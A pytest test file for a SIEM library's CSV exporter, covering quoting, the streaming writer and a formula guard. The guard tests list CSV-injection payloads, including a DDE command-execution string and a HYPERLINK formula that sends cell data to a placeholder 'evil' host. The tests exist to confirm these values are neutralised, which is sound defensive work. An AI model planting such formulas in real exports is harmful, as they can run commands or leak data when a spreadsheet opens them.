"""CSV: fixed columns, RFC 4180 quoting, the formula guard, and the streaming writer."""

from __future__ import annotations

import csv
import gzip
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from format_events import make_event
from format_parsers import parse_csv
from xavyo_siem.errors import EncodeError
from xavyo_siem.format import (
    CSV_COLUMNS,
    CsvFormatter,
    CsvWriter,
    csv_header,
    guard_formula,
    make_formatter,
    quote_csv_field,
    to_csv,
)
from xavyo_siem.model import ExportFormat
from xavyo_siem.sample import generate_events


def _row(line: str) -> dict[str, tuple[str, bool]]:
    records = parse_csv(csv_header() + "\r\n" + line + "\r\n")
    assert len(records) == 2
    return {
        name: (field.value, field.quoted)
        for name, field in zip(CSV_COLUMNS, records[1], strict=True)
    }


def test_columns_are_fixed_and_event_id_first() -> None:
    """The documented column list, event_id first, metadata and normalized last."""
    assert CSV_COLUMNS == (
        "event_id", "tenant_id", "timestamp", "event_type", "category", "severity", "outcome",
        "source_ip", "event_name", "action", "actor_id", "actor_email", "user_agent",
        "target_user", "target_resource", "reason", "session_id", "request_id", "source_address",
        "metadata", "normalized",
    )  # fmt: skip


def test_golden_header_and_row() -> None:
    """Header and row are quoted, absent fields are empty unquoted, metadata is JSON."""
    assert csv_header().startswith('"event_id","tenant_id","timestamp",')
    row = to_csv(make_event(outcome="success", reason='say "hi"', metadata={"geo": "FR"}))
    assert row == (
        '"7f5c9a2e-3b1d-4c8e-9f6a-2d4b8e1c0a37","0b9d6a1e-5c3f-4e2a-8d7b-1f6e9c4a2b58",'
        '"2024-05-01T12:34:56.789000Z","USER_LOGIN","authentication","3","success",'
        ',,,,,,,,"say ""hi""",,,,"{""geo"":""FR""}",'
    )


@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "@SUM(1+1)",
        "+1",
        "-1",
        "\tx",
        "\rx",
    ],
)
def test_formula_guard_prefixes_a_quote(payload: str) -> None:
    """Each CSV-injection payload gets a leading `'` inside its quoted cell."""
    row = _row(to_csv(make_event(reason=payload, event_type=payload)))
    assert row["reason"] == ("'" + payload, True)
    assert row["event_type"] == ("'" + payload, True)


def test_formula_guard_can_be_switched_off() -> None:
    """formula_guard=False writes the exact value (raw mode, unsafe for spreadsheets)."""
    row = _row(to_csv(make_event(reason="=1+1"), formula_guard=False))
    assert row["reason"] == ("=1+1", True)


def test_guard_leaves_ordinary_values_alone() -> None:
    """A value that does not start like a formula is unchanged (a later `=` is fine)."""
    assert guard_formula("a=1") == "a=1"
    assert guard_formula("") == ""
    assert guard_formula("\x00x") == "'\x00x"


def test_quote_field_doubles_quotes() -> None:
    """RFC 4180: a field is enclosed in quotes and each inner quote is doubled."""
    assert quote_csv_field('a"b,c\r\nd') == '"a""b,c\r\nd"'


def test_empty_string_and_absent_are_distinct() -> None:
    """An empty string is `""`; an absent field is an empty unquoted field."""
    row = _row(to_csv(make_event(reason="")))
    assert row["reason"] == ("", True)
    assert row["action"] == ("", False)
    assert row["metadata"] == ("", False)


def test_hostile_values_stay_one_record() -> None:
    """Commas, quotes, CR, LF, tabs, controls, emoji and 100 KB values stay in one record."""
    text = 'a,b"c\r\nd\te\x01\x7f\x85😀 東京' + "y" * 100_000
    metadata = {"key with space": text, "k=v": "=1", "=cmd": "@x"}
    row = _row(to_csv(make_event(reason=text, actor_id=text, metadata=metadata)))
    assert row["reason"] == (text, True)
    assert row["actor_id"] == (text, True)
    assert json.loads(row["metadata"][0]) == metadata


def test_ipv6_with_a_zone_index_is_kept_exactly() -> None:
    """A zone index holding a quote and a comma is quoted correctly."""
    ip = 'fe80::1%e"t,h0'
    assert _row(to_csv(make_event(source_ip=ip)))["source_ip"] == (ip, True)


def test_writer_streams_a_file_the_stdlib_reader_accepts(tmp_path: Path) -> None:
    """CsvWriter writes header + one CRLF-ended row per event; csv.reader reads them back."""
    events = list(generate_events(1500, tenants=2, seed=3))
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = CsvWriter(fh, chunk_rows=100)
        assert writer.write_many(events[:-1]) == 1499
        writer.write(events[-1])
        assert writer.rows_written == 1500
    data = path.read_bytes()
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 1501  # sample events hold no line breaks
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [row[0] for row in rows[1:]] == [str(e.event_id) for e in events]


def test_writer_accepts_binary_files() -> None:
    """A binary file gets UTF-8 bytes, identical to the text written to a text file."""
    events = list(generate_events(10, seed=1))
    text, raw = io.StringIO(newline=""), io.BytesIO()
    CsvWriter(text).write_many(events)
    CsvWriter(raw).write_many(events)
    assert raw.getvalue() == text.getvalue().encode()


def test_writer_into_gzip(tmp_path: Path) -> None:
    """A gzip file object (binary) works as the target of a compressed export."""
    events = list(generate_events(50, seed=2))
    path = tmp_path / "export.csv.gz"
    with gzip.open(path, "wb") as fh:
        CsvWriter(fh).write_many(events)
    assert len(parse_csv(gzip.decompress(path.read_bytes()).decode())) == 51


def test_writer_bom_and_no_header_options() -> None:
    """bom=True starts with U+FEFF; header=False writes rows only."""
    out = io.StringIO(newline="")
    CsvWriter(out, bom=True).write(make_event())
    assert out.getvalue().startswith('\ufeff"event_id"')
    out = io.StringIO(newline="")
    CsvWriter(out, header=False).write(make_event())
    assert out.getvalue() == to_csv(make_event()) + "\r\n"


def test_writer_of_an_empty_export_has_the_header_only() -> None:
    """An export without events is the header row alone."""
    out = io.StringIO(newline="")
    assert CsvWriter(out).write_many([]) == 0
    assert out.getvalue() == csv_header() + "\r\n"


def test_writer_formula_guard_off_is_per_export() -> None:
    """formula_guard=False on one writer leaves other writers guarded."""
    event = make_event(reason="=1")
    raw, guarded = io.StringIO(newline=""), io.StringIO(newline="")
    CsvWriter(raw, formula_guard=False, header=False).write(event)
    CsvWriter(guarded, header=False).write(event)
    assert '"=1"' in raw.getvalue()
    assert '"\'=1"' in guarded.getvalue()


def test_bad_option_raises_encode_error() -> None:
    """A non-boolean formula_guard is refused, naming the option."""
    with pytest.raises(EncodeError) as info:
        CsvFormatter(formula_guard="no")  # type: ignore[arg-type]
    assert info.value.field == "formula_guard"


def test_make_formatter_csv() -> None:
    """make_formatter('csv', {'formula_guard': False}) writes raw rows."""
    event = make_event(reason="=1")
    assert make_formatter(ExportFormat.CSV, {"formula_guard": False})(event) == to_csv(
        event, formula_guard=False
    )


def test_whole_second_timestamp_keeps_six_digits() -> None:
    """A time on a whole second is written with `.000000Z` in the timestamp column."""
    row = _row(to_csv(make_event(timestamp=datetime(2024, 1, 1, tzinfo=UTC))))
    assert row["timestamp"] == ("2024-01-01T00:00:00.000000Z", True)
